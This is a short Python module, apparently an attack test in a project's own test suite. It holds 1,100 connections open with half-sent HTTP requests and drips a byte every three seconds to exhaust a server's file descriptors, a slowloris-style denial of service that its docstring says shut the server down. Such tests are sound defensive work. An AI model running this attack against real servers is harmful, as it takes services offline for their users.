"""Send half of a request, and then a byte now and then, on more connections than files may be open.

Nobody counted connections or waited only so long for a request: 1,100 of them shut the server
for as long as they were held.
"""

from __future__ import annotations

import asyncio
import time
from typing import TYPE_CHECKING

from tests.attacks.client import LOST, keep

if TYPE_CHECKING:
    from tests.attacks.client import Target

CONNECTIONS = 1100
DRIP_SECONDS = 3.0
HALVES = (
    b"GET / HTTP/1.1\r\nHost: example\r\nX-Slow: ",
    b"POST /api/tokens HTTP/1.1\r\nHost: example\r\nContent-Length: 60000\r\n\r\n{",
)


async def attack(target: Target, until: float) -> None:
    """Hold as many half-sent requests as the server lets stand."""

    async def hold(place: int) -> str:
        reader, writer = await target.connect()
        try:
            writer.write(HALVES[place % len(HALVES)])
            while time.monotonic() < until:
                await writer.drain()
                try:
                    async with asyncio.timeout(DRIP_SECONDS):
                        return "answered" if await reader.read(100) else "closed"
                except TimeoutError:
                    writer.write(b"x")
            return "held"
        except LOST:
            return "closed"
        finally:
            writer.close()

    await keep(target, target.count(CONNECTIONS), until, hold)
